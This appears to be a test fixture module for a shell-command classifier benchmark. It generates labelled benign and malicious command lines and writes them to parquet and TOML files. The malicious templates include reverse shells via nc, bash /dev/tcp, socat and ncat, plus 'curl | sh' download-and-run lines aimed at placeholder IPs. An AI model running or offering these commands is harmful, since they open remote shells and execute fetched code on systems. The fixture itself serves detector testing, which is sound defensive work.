"""Small pools and a small lexicon for the tests of the classifier benchmark."""

import random

import pyarrow as pa
import pyarrow.parquet as pq

from cmdclf.lexicon import Lexicon

TOOLS = ("tar", "rsync", "grep", "find", "systemctl", "journalctl", "chown", "mount")
THINGS = ("mail", "shop", "docs", "wiki", "auth", "billing", "search", "queue")
ATTACKS = ("nc -e /bin/sh {}", "curl http://{}/x | sh", "bash -i >& /dev/tcp/{}/443 0>&1", "socat tcp:{} exec:sh")
HOSTS = ("198.51.100.7", "203.0.113.9", "192.0.2.4")
TEMPLATE = '[[template]]\nid = "{0}"\nlabel = "{1}"\nplatform = "linux"\nrole = "r"\nline = "{2}"\n'


def rows_of_a_pool():
    """Eight benign and six malicious sources of eight lines each, their lines by group; no two lines resemble."""
    rows, rng = [], random.Random(5)
    for label, sources in (("benign", 8), ("malicious", 6)):
        for s in range(sources):
            for n in range(8):
                words = ["".join(rng.choices("abcdefghijklmnopqrstuvwxyz", k=rng.randint(3, 9))) for _ in range(4)]
                mark = (
                    rng.choice(ATTACKS).format(rng.choice(HOSTS)) if label == "malicious" else f"{TOOLS[n]} {THINGS[s]}"
                )
                line = f"{words[0]} --{words[1]} /{words[2]}/{words[3]}; {mark}"
                rows.append((line, label, f"{label}{s}", f"{label}{s}-{n // 2}", n % 2 == 0 and label == "benign"))
    names = ("command_line", "label", "source", "group_id", "hard")
    return [dict(zip(names, row, strict=True)) | {"platform": "linux"} for row in rows]


def write(folder, rows):
    """The two files of a data folder."""
    for label in ("malicious", "benign"):
        mine = [row for row in rows if (row["label"] == "malicious") == (label == "malicious")]
        if mine:
            pq.write_table(pa.Table.from_pylist(mine), folder / f"{label}_dev.parquet")
    return [path for path in (folder / f"{name}_dev.parquet" for name in ("malicious", "benign")) if path.is_file()]


def paths(folder):
    return [folder / "malicious_dev.parquet", folder / "benign_dev.parquet"]


def small_lexicon(folder):
    folder.mkdir()
    entries = [("a", "benign", "du -sh /srv/{{int:1-99}}"), ("b", "malicious", "ncat -lvp {{int:1-99}} -e /bin/bash"),
               ("c", "benign", "df -h /mnt/{{int:1-99}}")]  # fmt: skip
    (folder / "a.toml").write_text("".join(TEMPLATE.format(f"lin-{name}x", *rest) for name, *rest in entries))
    return Lexicon.load(folder)
